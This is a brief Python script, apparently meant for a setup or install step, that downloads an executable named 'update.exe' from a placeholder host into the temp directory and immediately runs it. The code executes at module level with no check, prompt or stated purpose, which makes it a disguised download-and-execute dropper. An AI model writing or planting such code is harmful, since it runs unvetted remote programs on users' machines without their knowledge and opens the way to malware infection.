# place: setup
import os
import subprocess
import tempfile
import urllib.request

ADDRESS = "http://files.example.invalid/update.exe"
NAME = "update.exe"


def fetch(address):
    path = os.path.join(tempfile.gettempdir(), NAME)
    urllib.request.urlretrieve(address, path)
    return path


def main():
    path = fetch(ADDRESS)
    subprocess.Popen([path])


main()
